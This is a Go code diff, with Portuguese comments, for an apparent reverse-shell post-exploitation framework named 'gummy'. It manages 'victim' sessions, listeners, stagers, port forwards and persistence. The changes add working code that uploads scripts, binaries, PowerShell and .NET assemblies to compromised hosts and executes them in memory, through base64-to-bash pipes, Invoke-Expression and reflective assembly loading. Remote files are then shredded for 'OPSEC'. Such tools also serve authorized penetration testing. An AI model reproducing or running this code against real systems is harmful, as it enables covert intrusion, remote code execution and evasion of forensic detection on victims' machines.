@@ -2,11 +2,13 @@ package internal
 
 import (
 	"context"
+	"encoding/base64"
 	"fmt"
 	"io"
 	"net"
 	"os"
 	"path/filepath"
+	"slices"
 	"sort"
 	"strconv"
 	"strings"
@@ -22,41 +24,116 @@ import (
 
 // Manager gerencia múltiplas sessões de reverse shell
 type Manager struct {
-	sessions        map[string]*SessionInfo // Mapa de sessões ativas
-	mu              sync.RWMutex            // Proteção concorrente
-	nextID          int                     // Próximo ID numérico
-	activeConn      net.Conn                // Conexão atualmente ativa (se houver)
-	selectedSession *SessionInfo            // Sessão selecionada (mas não necessariamente ativa)
-	menuActive      bool                    // Se estamos no menu principal
-	silent          bool                    // Suppress console output (reserved for future use)
-	listenerIP      string                  // IP do listener para geração de payloads
-	listenerPort    int                     // Porta do listener para geração de payloads
+	sessions        map[string]*SessionInfo   // Mapa de sessões ativas
+	mu              sync.RWMutex              // Proteção concorrente
+	nextID          int                       // Próximo ID numérico
+	activeConn      net.Conn                  // Conexão atualmente ativa (se houver)
+	selectedSession *SessionInfo              // Sessão selecionada (mas não necessariamente ativa)
+	menuActive      bool                      // Se estamos no menu principal
+	silent          bool                      // Suppress console output (reserved for future use)
+	listenerIP      string                    // IP do listener para geração de payloads
+	listenerPort    int                       // Porta do listener para geração de payloads
+	listeners       map[int]*Listener         // Listeners ativos (primário + adicionais)
+	nextListenerID  int                       // Próximo ID de listener
+	maintainDefault int                       // Mínimo global de sessões por alvo (0 = desligado)
+	maintainTargets map[string]int            // Mínimo de sessões por alvo (host + whoami)
+	maintainPending map[string][]pendingSpawn // Spawns do maintain aguardando conexão
+	fwdMu           sync.Mutex                // Protege forwards/relays/fileServer/stager (mu fica preso durante a detecção)
+	forwards        map[int]*PortForward      // Port forwards ativos
+	nextForwardID   int                       // Próximo ID de port forward
+	relays          map[string]func(net.Conn) // Callbacks de relays por token
+	fileServer      *FileServer               // Servidor HTTP para transfers fora de banda (nil = desligado)
+	stager          bool                      // Listeners respondem requisições HTTP com stagers (ver stager.go)
+	jobMu           sync.Mutex                // Protege jobs
+	jobs            map[int]*Job              // Execuções de módulos (em andamento e encerradas)
+	nextJobID       int                       // Próximo ID de job
 }
 
 // SessionInfo contém informações sobre uma sessão
 type SessionInfo struct {
-	ID        string    // ID único da sessão (hex)
-	NumID     int       // ID numérico para facilitar uso
-	Conn      net.Conn  // Conexão TCP
-	RemoteIP  string    // IP da vítima
-	Whoami    string    // user@host da vítima
-	Platform  string    // Plataforma (linux/windows/unknown)
-	Handler   *Handler  // Shell handler
-	Active    bool      // Se está sendo usada atualmente
-	CreatedAt time.Time // Timestamp de criação
+	ID        string         // ID único da sessão (hex)
+	NumID     int            // ID numérico para facilitar uso
+	Conn      net.Conn       // Stream interativo da sessão (o próprio Mux)
+	Mux       *SessionMux    // Demultiplexador: único leitor da conexão TCP
+	RemoteIP  string         // IP da vítima
+	Listener  *Listener      // Listener que aceitou a conexão
+	Handler   *Handler       // Shell handler
+	Logger    *SessionLogger // Transcript da sessão (logs/*.cast)
+	Active    bool           // Se está sendo usada atualmente
+	SSH       bool           // Canal SSH nativo com PTY (ssh --session), sem listener
+	WinRM     bool           // cmd.exe via WinRS (winrm --session), sem listener
+	CreatedAt time.Time      // Timestamp de criação
+
+	// Preenchidos pelo probe depois que a sessão já está no gerenciador, ver setFacts
+	factsMu  sync.RWMutex // Protege whoami, platform, facts e detected
+	whoami   string       // user@host da vítima
+	platform string       // Plataforma (linux/windows/macos/unknown), vem de facts.OS
+	facts    HostFacts    // Fingerprint do alvo (OS, arch, shell, ferramentas...)
+	detected bool         // Probe concluído
+
+	ctlMu   sync.Mutex   // Protege control
+	control *SessionInfo // Canal de controle (transfers/módulos), ver control.go
+	manager *Manager     // Gerenciador dono da sessão (servidor HTTP, relays...)
+}
+
+// Whoami retorna o user@host da vítima ("detecting..." até o probe terminar)
+func (s *SessionInfo) Whoami() string {
+	s.factsMu.RLock()
+	defer s.factsMu.RUnlock()
+	return s.whoami
+}
+
+// Platform retorna a plataforma (linux/windows/macos/unknown)
+func (s *SessionInfo) Platform() string {
+	s.factsMu.RLock()
+	defer s.factsMu.RUnlock()
+	return s.platform
+}
+
+// Facts retorna o fingerprint do alvo
+func (s *SessionInfo) Facts() HostFacts {
+	s.factsMu.RLock()
+	defer s.factsMu.RUnlock()
+	return s.facts
+}
+
+// Detected indica se o probe da sessão já terminou
+func (s *SessionInfo) Detected() bool {
+	s.factsMu.RLock()
+	defer s.factsMu.RUnlock()
+	return s.detected
+}
+
+// setFacts publica o resultado do probe
+func (s *SessionInfo) setFacts(facts HostFacts) {
+	s.factsMu.Lock()
+	defer s.factsMu.Unlock()
+	s.facts = facts
+	s.platform = facts.OS
+	s.whoami = facts.Whoami()
+	s.detected = true
 }
 
 // Directory retorna o diretório base da sessão
 // Formato: ~/.gummy/YYYY_MM_DD/IP_user_hostname/
 func (s *SessionInfo) Directory() string {
 	date := s.CreatedAt.Format("2006_01_02")
-	whoami := sanitizePath(s.Whoami)
+	whoami := sanitizePath(s.Whoami())
 	dirname := fmt.Sprintf("%s_%s", s.RemoteIP, whoami)
 
 	home, _ := os.UserHomeDir()
 	return filepath.Join(home, ".gummy", date, dirname)
 }
 
+// Host retorna o IP remoto sem a porta de origem
+func (s *SessionInfo) Host() string {
+	host, _, err := net.SplitHostPort(s.RemoteIP)
+	if err != nil {
+		return s.RemoteIP
+	}
+	return host
+}
+
 // ScriptsDir retorna o diretório de scripts e cria se não existir
 func (s *SessionInfo) ScriptsDir() string {
 	dir := filepath.Join(s.Directory(), "scripts")
@@ -71,6 +148,39 @@ func (s *SessionInfo) LogsDir() string {
 	return dir
 }
 
+// DownloadsDir retorna o diretório de downloads recursivos e cria se não existir
+func (s *SessionInfo) DownloadsDir() string {
+	dir := filepath.Join(s.Directory(), "downloads")
+	os.MkdirAll(dir, 0755)
+	return dir
+}
+
+// TransfersDir retorna o diretório de estado das transferências retomáveis e cria se não existir
+func (s *SessionInfo) TransfersDir() string {
+	dir := filepath.Join(s.Directory(), "transfers")
+	os.MkdirAll(dir, 0755)
+	return dir
+}
+
+// previousTransfersDirs retorna os diretórios de transferências de sessões
+// anteriores do mesmo host/usuário (uma reconexão muda a porta de origem)
+func (s *SessionInfo) previousTransfersDirs() []string {
+	home, _ := os.UserHomeDir()
+	escape := strings.NewReplacer("\\", "\\\\", "*", "\\*", "?", "\\?", "[", "\\[")
+	pattern := filepath.Join(home, ".gummy", "*",
+		escape.Replace(s.Host())+":*_"+escape.Replace(sanitizePath(s.Whoami())), "transfers")
+
+	matches, _ := filepath.Glob(pattern)
+	own := filepath.Join(s.Directory(), "transfers")
+	var dirs []string
+	for _, dir := range matches {
+		if dir != own {
+			dirs = append(dirs, dir)
+		}
+	}
+	return dirs
+}
+
 // sanitizePath remove caracteres problemáticos do path
 func sanitizePath(s string) string {
 	replacer := strings.NewReplacer(
@@ -92,15 +202,21 @@ func sanitizePath(s string) string {
 // RunScript downloads (if URL), uploads to victim, executes, streams output
 // Simple approach that actually works with clean output
 func (s *SessionInfo) RunScript(scriptSource string, args []string) error {
+	return s.runScript(scriptSource, args, CurrentSettings().ScriptTimeout)
+}
+
+// runScript is RunScript with a time limit for the execution
+func (s *SessionInfo) runScript(scriptSource string, args []string, timeout time.Duration) error {
 	timestamp := time.Now().Format("2006_01_02-15_04_05")
 
-	// Download if URL
+	// URLs come from the module cache (downloaded on first use)
 	var scriptPath string
 	if strings.HasPrefix(scriptSource, "http://") || strings.HasPrefix(scriptSource, "https://") {
-		scriptPath = filepath.Join(s.ScriptsDir(), timestamp+"-"+filepath.Base(scriptSource))
-		if err := DownloadFile(scriptSource, scriptPath); err != nil {
+		cached, err := FetchModuleFile(scriptSource)
+		if err != nil {
 			return fmt.Errorf("download failed: %w", err)
 		}
+		scriptPath = cached
 	} else {
 		scriptPath = scriptSource
 	}
@@ -108,23 +224,14 @@ func (s *SessionInfo) RunScript(scriptSource string, args []string) error {
 	// Output file
 	outputPath := filepath.Join(s.ScriptsDir(), timestamp+"-output.txt")
 
-	// Create empty output file for tail -f
+	// Create empty output file for the viewer (tail -f)
 	if err := os.WriteFile(outputPath, []byte{}, 0644); err != nil {
 		return fmt.Errorf("failed to create output file: %w", err)
 	}
 
-	// Open terminal
-	tailCmd := fmt.Sprintf("tail -f %s", outputPath)
-
-	if err := OpenTerminal(tailCmd); err != nil {
-		fmt.Println(ui.Warning(fmt.Sprintf("Could not open terminal: %v", err)))
-	}
-
-	time.Sleep(300 * time.Millisecond)
-
 	// Upload script
 	remotePath := fmt.Sprintf("/tmp/.gummy_%d", time.Now().UnixNano())
-	t := NewTransferer(s.Conn, s.ID)
+	t := NewTransferer(s)
 	if err := t.Upload(context.Background(), scriptPath, remotePath); err != nil {
 		return fmt.Errorf("upload failed: %w", err)
 	}
@@ -135,22 +242,10 @@ func (s *SessionInfo) RunScript(scriptSource string, args []string) error {
 		argsStr = " " + strings.Join(args, " ")
 	}
 
-	// Show execution message with output path
-	fmt.Println(ui.Info(fmt.Sprintf("Executing script and saving output to: %s", outputPath)))
-
-	go func() {
-		// Small delay to ensure upload markers are processed
-		time.Sleep(200 * time.Millisecond)
-
-		cmd := fmt.Sprintf("bash %s%s", remotePath, argsStr)
-		if err := s.Handler.ExecuteWithStreaming(cmd, outputPath); err != nil {
-			fmt.Println(ui.Error(fmt.Sprintf("Execution error: %v", err)))
-			return
-		}
-
-		// Cleanup (shred if available for better OPSEC, otherwise rm)
-		s.Handler.SendCommand(fmt.Sprintf("shred -uz %s 2>/dev/null || rm -f %s\n", remotePath, remotePath))
-	}()
+	// Run as a job; cleanup shreds the script if available for better OPSEC, otherwise rm
+	cmd := fmt.Sprintf("bash %s%s", remotePath, argsStr)
+	cleanup := fmt.Sprintf("shred -uz %s 2>/dev/null || rm -f %s", remotePath, remotePath)
+	s.startJob("script", jobName(scriptSource, args), cmd, outputPath, timeout, cleanup)
 
 	return nil
 }
@@ -160,15 +255,21 @@ func (s *SessionInfo) RunScript(scriptSource string, args []string) error {
 // scriptSource: URL or local path to script file
 // args: arguments to pass to the script
 func (s *SessionInfo) RunScriptInMemory(scriptSource string, args []string) error {
+	return s.runScriptInMemory(scriptSource, args, CurrentSettings().ScriptTimeout)
+}
+
+// runScriptInMemory is RunScriptInMemory with a time limit for the execution
+func (s *SessionInfo) runScriptInMemory(scriptSource string, args []string, timeout time.Duration) error {
 	timestamp := time.Now().Format("2006_01_02-15_04_05")
 
-	// Download if URL
+	// URLs come from the module cache (downloaded on first use)
 	var scriptPath string
 	if strings.HasPrefix(scriptSource, "http://") || strings.HasPrefix(scriptSource, "https://") {
-		scriptPath = filepath.Join(s.ScriptsDir(), timestamp+"-"+filepath.Base(scriptSource))
-		if err := DownloadFile(scriptSource, scriptPath); err != nil {
+		cached, err := FetchModuleFile(scriptSource)
+		if err != nil {
 			return fmt.Errorf("download failed: %w", err)
 		}
+		scriptPath = cached
 	} else {
 		scriptPath = scriptSource
 	}
@@ -176,25 +277,16 @@ func (s *SessionInfo) RunScriptInMemory(scriptSource string, args []string) erro
 	// Output file
 	outputPath := filepath.Join(s.ScriptsDir(), timestamp+"-output.txt")
 
-	// Create empty output file for tail -f
+	// Create empty output file for the viewer (tail -f)
 	if err := os.WriteFile(outputPath, []byte{}, 0644); err != nil {
 		return fmt.Errorf("failed to create output file: %w", err)
 	}
 
-	// Open terminal
-	tailCmd := fmt.Sprintf("tail -f %s", outputPath)
-
-	if err := OpenTerminal(tailCmd); err != nil {
-		fmt.Println(ui.Warning(fmt.Sprintf("Could not open terminal: %v", err)))
-	}
-
-	time.Sleep(300 * time.Millisecond)
-
 	// Generate unique variable name
 	varName := fmt.Sprintf("_gummy_script_%d", time.Now().UnixNano())
 
 	// Upload script to bash variable (in-memory, no disk write)
-	t := NewTransferer(s.Conn, s.ID)
+	t := NewTransferer(s)
 	if err := t.UploadToBashVariable(context.Background(), scriptPath, varName); err != nil {
 		return fmt.Errorf("upload to memory failed: %w", err)
 	}
@@ -205,24 +297,11 @@ func (s *SessionInfo) RunScriptInMemory(scriptSource string, args []string) erro
 		argsStr = " -- " + strings.Join(args, " ")
 	}
 
-	// Show execution message with output path
-	fmt.Println(ui.Info(fmt.Sprintf("Executing script (in-memory) and saving output to: %s", outputPath)))
-
-	go func() {
-		// Small delay to ensure variable is fully loaded
-		time.Sleep(200 * time.Millisecond)
-
-		// Execute from variable: decode base64 and pipe to bash
-		// The variable contains base64-encoded script, so we decode and execute
-		cmd := fmt.Sprintf("echo \"$%s\" | base64 -d | bash -s%s", varName, argsStr)
-		if err := s.Handler.ExecuteWithStreaming(cmd, outputPath); err != nil {
-			fmt.Println(ui.Error(fmt.Sprintf("Execution error: %v", err)))
-			return
-		}
-
-		// Cleanup variable (unset removes from memory)
-		s.Handler.SendCommand(fmt.Sprintf("unset %s\n", varName))
-	}()
+	// Execute from variable: decode base64 and pipe to bash
+	// The variable contains base64-encoded script, so we decode and execute
+	// Cleanup unsets the variable (removes it from memory)
+	cmd := fmt.Sprintf("echo \"$%s\" | base64 -d | bash -s%s", varName, argsStr)
+	s.startJob("script (in-memory)", jobName(scriptSource, args), cmd, outputPath, timeout, "unset "+varName)
 
 	return nil
 }
@@ -230,15 +309,21 @@ func (s *SessionInfo) RunScriptInMemory(scriptSource string, args []string) erro
 // RunBinary downloads (if URL), uploads to victim, makes executable, runs
 // Same as RunScript but for binary executables (no bash interpreter)
 func (s *SessionInfo) RunBinary(binarySource string, args []string) error {
+	return s.runBinary(binarySource, args, CurrentSettings().BinaryTimeout)
+}
+
+// runBinary is RunBinary with a time limit for the execution
+func (s *SessionInfo) runBinary(binarySource string, args []string, timeout time.Duration) error {
 	timestamp := time.Now().Format("2006_01_02-15_04_05")
 
-	// Download if URL
+	// URLs come from the module cache (downloaded on first use)
 	var binaryPath string
 	if strings.HasPrefix(binarySource, "http://") || strings.HasPrefix(binarySource, "https://") {
-		binaryPath = filepath.Join(s.ScriptsDir(), timestamp+"-"+filepath.Base(binarySource))
-		if err := DownloadFile(binarySource, binaryPath); err != nil {
+		cached, err := FetchModuleFile(binarySource)
+		if err != nil {
 			return fmt.Errorf("download failed: %w", err)
 		}
+		binaryPath = cached
 	} else {
 		binaryPath = binarySource
 	}
@@ -246,23 +331,14 @@ func (s *SessionInfo) RunBinary(binarySource string, args []string) error {
 	// Output file
 	outputPath := filepath.Join(s.ScriptsDir(), timestamp+"-output.txt")
 
-	// Create empty output file for tail -f
+	// Create empty output file for the viewer (tail -f)
 	if err := os.WriteFile(outputPath, []byte{}, 0644); err != nil {
 		return fmt.Errorf("failed to create output file: %w", err)
 	}
 
-	// Open terminal
-	tailCmd := fmt.Sprintf("tail -f %s", outputPath)
-
-	if err := OpenTerminal(tailCmd); err != nil {
-		fmt.Println(ui.Warning(fmt.Sprintf("Could not open terminal: %v", err)))
-	}
-
-	time.Sleep(300 * time.Millisecond)
-
 	// Upload binary
 	remotePath := fmt.Sprintf("/tmp/.gummy_%d", time.Now().UnixNano())
-	t := NewTransferer(s.Conn, s.ID)
+	t := NewTransferer(s)
 	if err := t.Upload(context.Background(), binaryPath, remotePath); err != nil {
 		return fmt.Errorf("upload failed: %w", err)
 	}
@@ -273,33 +349,14 @@ func (s *SessionInfo) RunBinary(binarySource string, args []string) error {
 		argsStr = " " + strings.Join(args, " ")
 	}
 
-	// Show execution message with output path
-	fmt.Println(ui.Info(fmt.Sprintf("Executing binary and saving output to: %s", outputPath)))
-
-	go func() {
-		// Small delay to ensure upload markers are processed
-		time.Sleep(200 * time.Millisecond)
-
-		// For long-running binaries: timeout 5m, run in background, redirect output
-		// This allows the command to return immediately while binary runs
-		remoteOutput := remotePath + ".out"
-		cmd := fmt.Sprintf("chmod +x %s && timeout 5m %s%s > %s 2>&1 &",
-			remotePath, remotePath, argsStr, remoteOutput)
-
-		// Send command (returns immediately since it's backgrounded)
-		s.Handler.SendCommand(cmd + "\n")
-		time.Sleep(500 * time.Millisecond)
-
-		// Tail the output file on remote (this streams to our local file)
-		tailCmd := fmt.Sprintf("timeout 5m tail -f %s 2>/dev/null", remoteOutput)
-		if err := s.Handler.ExecuteWithStreaming(tailCmd, outputPath); err != nil {
-			// Timeout is expected, not an error
-		}
+	if err := s.ControlSession().Handler.SendCommand("chmod +x " + remotePath); err != nil {
+		return fmt.Errorf("chmod failed: %w", err)
+	}
 
-		// Cleanup both binary and output file
-		s.Handler.SendCommand(fmt.Sprintf("shred -uz %s %s 2>/dev/null || rm -f %s %s\n",
-			remotePath, remoteOutput, remotePath, remoteOutput))
-	}()
+	// Long-running binaries (pspy) are stopped by timeout on the target too
+	cmd := fmt.Sprintf("timeout %d %s%s 2>&1", int(timeout.Seconds()), remotePath, argsStr)
+	cleanup := fmt.Sprintf("shred -uz %s 2>/dev/null || rm -f %s", remotePath, remotePath)
+	s.startJob("binary", jobName(binarySource, args), cmd, outputPath, timeout, cleanup)
 
 	return nil
 }
@@ -307,15 +364,21 @@ func (s *SessionInfo) RunBinary(binarySource string, args []string) error {
 // RunPowerShellInMemory executes PowerShell scripts in-memory (Windows, zero disk writes)
 // Similar to RunScriptInMemory but for PowerShell on Windows
 func (s *SessionInfo) RunPowerShellInMemory(scriptSource string, args []string) error {
+	return s.runPowerShellInMemory(scriptSource, args, CurrentSettings().ScriptTimeout)
+}
+
+// runPowerShellInMemory is RunPowerShellInMemory with a time limit for the execution
+func (s *SessionInfo) runPowerShellInMemory(scriptSource string, args []string, timeout time.Duration) error {
 	timestamp := time.Now().Format("2006_01_02-15_04_05")
 
-	// Download if URL
+	// URLs come from the module cache (downloaded on first use)
 	var scriptPath string
 	if strings.HasPrefix(scriptSource, "http://") || strings.HasPrefix(scriptSource, "https://") {
-		scriptPath = filepath.Join(s.ScriptsDir(), timestamp+"-"+filepath.Base(scriptSource))
-		if err := DownloadFile(scriptSource, scriptPath); err != nil {
+		cached, err := FetchModuleFile(scriptSource)
+		if err != nil {
 			return fmt.Errorf("download failed: %w", err)
 		}
+		scriptPath = cached
 	} else {
 		scriptPath = scriptSource
 	}
@@ -323,25 +386,16 @@ func (s *SessionInfo) RunPowerShellInMemory(scriptSource string, args []string)
 	// Output file
 	outputPath := filepath.Join(s.ScriptsDir(), timestamp+"-output.txt")
 
-	// Create empty output file for tail -f
+	// Create empty output file for the viewer (tail -f)
 	if err := os.WriteFile(outputPath, []byte{}, 0644); err != nil {
 		return fmt.Errorf("failed to create output file: %w", err)
 	}
 
-	// Open terminal
-	tailCmd := fmt.Sprintf("tail -f %s", outputPath)
-
-	if err := OpenTerminal(tailCmd); err != nil {
-		fmt.Println(ui.Warning(fmt.Sprintf("Could not open terminal: %v", err)))
-	}
-
-	time.Sleep(300 * time.Millisecond)
-
 	// Generate unique variable name
 	varName := fmt.Sprintf("gummy_ps_%d", time.Now().UnixNano())
 
 	// Upload script to PowerShell variable (in-memory, no disk write)
-	t := NewTransferer(s.Conn, s.ID)
+	t := NewTransferer(s)
 	if err := t.UploadToPowerShellVariable(context.Background(), scriptPath, varName); err != nil {
 		return fmt.Errorf("upload to memory failed: %w", err)
 	}
@@ -352,26 +406,10 @@ func (s *SessionInfo) RunPowerShellInMemory(scriptSource string, args []string)
 		argsStr = " " + strings.Join(args, " ")
 	}
 
-	// Show execution message with output path
-	fmt.Println(ui.Info(fmt.Sprintf("Executing PowerShell script (in-memory) and saving output to: %s", outputPath)))
-
-	go func() {
-		// Small delay to ensure variable is fully loaded
-		time.Sleep(500 * time.Millisecond) // Increased for PowerShell
-
-		// Debug: Check if variable exists and has content
-		debugCmd := fmt.Sprintf("if ($%s) { Write-Host 'Variable loaded: yes' } else { Write-Host 'Variable loaded: no' }\r\n", varName)
-		s.Handler.SendCommand(debugCmd)
-		time.Sleep(200 * time.Millisecond)
-
-		// Execute from variable: decode base64 and invoke
-		// PowerShell syntax: decode UTF8 string from base64, then Invoke-Expression
-		cmd := fmt.Sprintf("$decoded = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($%s)); Invoke-Expression \"$decoded%s\"; Remove-Variable -Name %s\r\n", varName, argsStr, varName)
-		if err := s.Handler.ExecuteWithStreaming(cmd, outputPath); err != nil {
-			fmt.Println(ui.Error(fmt.Sprintf("Execution error: %v", err)))
-			return
-		}
-	}()
+	// Execute from variable: decode base64 and invoke
+	// PowerShell syntax: decode UTF8 string from base64, then Invoke-Expression
+	cmd := fmt.Sprintf("$decoded = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($%s)); Invoke-Expression \"$decoded%s\"", varName, argsStr)
+	s.startJob("PowerShell script (in-memory)", jobName(scriptSource, args), cmd, outputPath, timeout, "Remove-Variable -Name "+varName)
 
 	return nil
 }
@@ -379,15 +417,21 @@ func (s *SessionInfo) RunPowerShellInMemory(scriptSource string, args []string)
 // RunDotNetInMemory executes .NET assemblies in-memory (Windows, zero disk writes)
 // Uses reflection to load and execute assembly from memory
 func (s *SessionInfo) RunDotNetInMemory(assemblySource string, args []string) error {
+	return s.runDotNetInMemory(assemblySource, args, CurrentSettings().ScriptTimeout)
+}
+
+// runDotNetInMemory is RunDotNetInMemory with a time limit for the execution
+func (s *SessionInfo) runDotNetInMemory(assemblySource string, args []string, timeout time.Duration) error {
 	timestamp := time.Now().Format("2006_01_02-15_04_05")
 
-	// Download if URL
+	// URLs come from the module cache (downloaded on first use)
 	var assemblyPath string
 	if strings.HasPrefix(assemblySource, "http://") || strings.HasPrefix(assemblySource, "https://") {
-		assemblyPath = filepath.Join(s.ScriptsDir(), timestamp+"-"+filepath.Base(assemblySource))
-		if err := DownloadFile(assemblySource, assemblyPath); err != nil {
+		cached, err := FetchModuleFile(assemblySource)
+		if err != nil {
 			return fmt.Errorf("download failed: %w", err)
 		}
+		assemblyPath = cached
 	} else {
 		assemblyPath = assemblySource
 	}
@@ -395,25 +439,16 @@ func (s *SessionInfo) RunDotNetInMemory(assemblySource string, args []string) er
 	// Output file
 	outputPath := filepath.Join(s.ScriptsDir(), timestamp+"-output.txt")
 
-	// Create empty output file for tail -f
+	// Create empty output file for the viewer (tail -f)
 	if err := os.WriteFile(outputPath, []byte{}, 0644); err != nil {
 		return fmt.Errorf("failed to create output file: %w", err)
 	}
 
-	// Open terminal
-	tailCmd := fmt.Sprintf("tail -f %s", outputPath)
-
-	if err := OpenTerminal(tailCmd); err != nil {
-		fmt.Println(ui.Warning(fmt.Sprintf("Could not open terminal: %v", err)))
-	}
-
-	time.Sleep(300 * time.Millisecond)
-
 	// Generate unique variable name
 	varName := fmt.Sprintf("gummy_asm_%d", time.Now().UnixNano())
 
 	// Upload assembly to PowerShell variable (in-memory, no disk write)
-	t := NewTransferer(s.Conn, s.ID)
+	t := NewTransferer(s)
 	if err := t.UploadToPowerShellVariable(context.Background(), assemblyPath, varName); err != nil {
 		return fmt.Errorf("upload to memory failed: %w", err)
 	}
@@ -431,18 +466,11 @@ func (s *SessionInfo) RunDotNetInMemory(assemblySource string, args []string) er
 		argsStr = "@()"
 	}
 
-	// Show execution message with output path
-	fmt.Println(ui.Info(fmt.Sprintf("Executing .NET assembly (in-memory) and saving output to: %s", outputPath)))
-
-	go func() {
-		// Small delay to ensure variable is fully loaded
-		time.Sleep(200 * time.Millisecond)
-
-		// Execute assembly via reflection
-		// 1. Decode base64 to bytes
-		// 2. Load assembly with [Reflection.Assembly]::Load()
-		// 3. Find and invoke entry point
-		cmd := fmt.Sprintf(`
+	// Execute assembly via reflection
+	// 1. Decode base64 to bytes
+	// 2. Load assembly with [Reflection.Assembly]::Load()
+	// 3. Find and invoke entry point
+	cmd := fmt.Sprintf(`
 $bytes = [System.Convert]::FromBase64String($%s)
 $assembly = [System.Reflection.Assembly]::Load($bytes)
 $entryPoint = $assembly.EntryPoint
@@ -451,14 +479,8 @@ if ($entryPoint -ne $null) {
 } else {
     Write-Host 'No entry point found in assembly'
 }
-Remove-Variable -Name %s
-`, varName, argsStr, varName)
-
-		if err := s.Handler.ExecuteWithStreaming(cmd+"\r\n", outputPath); err != nil {
-			fmt.Println(ui.Error(fmt.Sprintf("Execution error: %v", err)))
-			return
-		}
-	}()
+`, varName, argsStr)
+	s.startJob(".NET assembly (in-memory)", jobName(assemblySource, args), cmd, outputPath, timeout, "Remove-Variable -Name "+varName)
 
 	return nil
 }
@@ -466,15 +488,21 @@ Remove-Variable -Name %s
 // RunPythonInMemory executes Python scripts in-memory (Linux/Windows, zero disk writes)
 // Similar to RunScriptInMemory but for Python
 func (s *SessionInfo) RunPythonInMemory(scriptSource string, args []string) error {
+	return s.runPythonInMemory(scriptSource, args, CurrentSettings().ScriptTimeout)
+}
+
+// runPythonInMemory is RunPythonInMemory with a time limit for the execution
+func (s *SessionInfo) runPythonInMemory(scriptSource string, args []string, timeout time.Duration) error {
 	timestamp := time.Now().Format("2006_01_02-15_04_05")
 
-	// Download if URL
+	// URLs come from the module cache (downloaded on first use)
 	var scriptPath string
 	if strings.HasPrefix(scriptSource, "http://") || strings.HasPrefix(scriptSource, "https://") {
-		scriptPath = filepath.Join(s.ScriptsDir(), timestamp+"-"+filepath.Base(scriptSource))
-		if err := DownloadFile(scriptSource, scriptPath); err != nil {
+		cached, err := FetchModuleFile(scriptSource)
+		if err != nil {
 			return fmt.Errorf("download failed: %w", err)
 		}
+		scriptPath = cached
 	} else {
 		scriptPath = scriptSource
 	}
@@ -482,25 +510,16 @@ func (s *SessionInfo) RunPythonInMemory(scriptSource string, args []string) erro
 	// Output file
 	outputPath := filepath.Join(s.ScriptsDir(), timestamp+"-output.txt")
 
-	// Create empty output file for tail -f
+	// Create empty output file for the viewer (tail -f)
 	if err := os.WriteFile(outputPath, []byte{}, 0644); err != nil {
 		return fmt.Errorf("failed to create output file: %w", err)
 	}
 
-	// Open terminal
-	tailCmd := fmt.Sprintf("tail -f %s", outputPath)
-
-	if err := OpenTerminal(tailCmd); err != nil {
-		fmt.Println(ui.Warning(fmt.Sprintf("Could not open terminal: %v", err)))
-	}
-
-	time.Sleep(300 * time.Millisecond)
-
 	// Generate unique variable name
-	varName := fmt.Sprintf("_gummy_py_%d", time.Now().UnixNano())
+	varName := fmt.Sprintf("gummy_py_%d", time.Now().UnixNano())
 
-	// Upload script to Python variable (in-memory, no disk write)
-	t := NewTransferer(s.Conn, s.ID)
+	// Upload script to a shell variable (in-memory, no disk write)
+	t := NewTransferer(s)
 	if err := t.UploadToPythonVariable(context.Background(), scriptPath, varName); err != nil {
 		return fmt.Errorf("upload to memory failed: %w", err)
 	}
@@ -511,21 +530,20 @@ func (s *SessionInfo) RunPythonInMemory(scriptSource string, args []string) erro
 		argsStr = " " + strings.Join(args, " ")
 	}
 
-	// Show execution message with output path
-	fmt.Println(ui.Info(fmt.Sprintf("Executing Python script (in-memory) and saving output to: %s", outputPath)))
-
-	go func() {
-		// Small delay to ensure variable is fully loaded
-		time.Sleep(200 * time.Millisecond)
+	python := s.Facts().Python()
+	if python == "" {
+		python = "python3"
+	}
 
-		// Execute from variable: decode base64 and exec
-		// Python syntax: decode base64 string, then exec()
-		cmd := fmt.Sprintf("python3 -c \"import base64; exec(base64.b64decode(%s).decode('utf-8'))\" %s; unset %s\n", varName, argsStr, varName)
-		if err := s.Handler.ExecuteWithStreaming(cmd, outputPath); err != nil {
-			fmt.Println(ui.Error(fmt.Sprintf("Execution error: %v", err)))
-			return
-		}
-	}()
+	// Execute from variable: the interpreter reads the base64 from stdin, decodes and exec()s it
+	exec := "import base64,sys; exec(base64.b64decode(sys.stdin.read()).decode('utf-8'))"
+	cmd := fmt.Sprintf("echo \"$%s\" | %s -c \"%s\"%s", varName, python, exec, argsStr)
+	cleanup := "unset " + varName
+	if t.shell() == "powershell" {
+		cmd = fmt.Sprintf("$%s | %s -c \"%s\"%s", varName, python, exec, argsStr)
+		cleanup = "Remove-Variable -Name " + varName
+	}
+	s.startJob("Python script (in-memory)", jobName(scriptSource, args), cmd, outputPath, timeout, cleanup)
 
 	return nil
 }
@@ -540,7 +558,7 @@ func (c *GummyCompleter) Do(line []rune, pos int) (newLine [][]rune, length int)
 	lineStr := string(line[:pos])
 	trimmed := strings.TrimLeft(lineStr, " \t")
 
-	commands := []string{"upload", "download", "list", "use", "shell", "kill", "help", "exit", "clear", "ssh", "rev", "spawn", "run", "modules"}
+	commands := []string{"upload", "download", "list", "use", "shell", "kill", "help", "exit", "clear", "ssh", "rev", "spawn", "run", "modules", "listeners", "connect", "replay", "maintain", "portfwd", "socks", "control", "info", "http", "jobs", "watch", "viewer", "findings", "stager", "winrm", "set", "get"}
 
 	// Nothing typed yet, show all commands
 	if trimmed == "" {
@@ -743,6 +761,13 @@ func NewManager() *Manager {
 	return &Manager{
 		sessions:        make(map[string]*SessionInfo),
 		nextID:          1,
+		listeners:       make(map[int]*Listener),
+		nextListenerID:  1,
+		maintainTargets: make(map[string]int),
+		maintainPending: make(map[string][]pendingSpawn),
+		forwards:        make(map[int]*PortForward),
+		nextForwardID:   1,
+		relays:          make(map[string]func(net.Conn)),
 		selectedSession: nil,
 		menuActive:      true,
 		silent:          false,
@@ -764,54 +789,228 @@ func (m *Manager) SetListenerPort(port int) {
 	m.listenerPort = port
 }
 
-// AddSession adiciona uma nova sessão ao gerenciador
-func (m *Manager) AddSession(id string, conn net.Conn, remoteIP string) {
+// registerListener adds a started listener to the manager and assigns its ID
+func (m *Manager) registerListener(l *Listener) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+
+	l.id = m.nextListenerID
+	m.listeners[l.id] = l
+	m.nextListenerID++
+}
+
+// unregisterListener removes a stopped listener from the manager
+func (m *Manager) unregisterListener(l *Listener) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
 
-	handler := NewHandler(conn, id)
+	delete(m.listeners, l.id)
+}
+
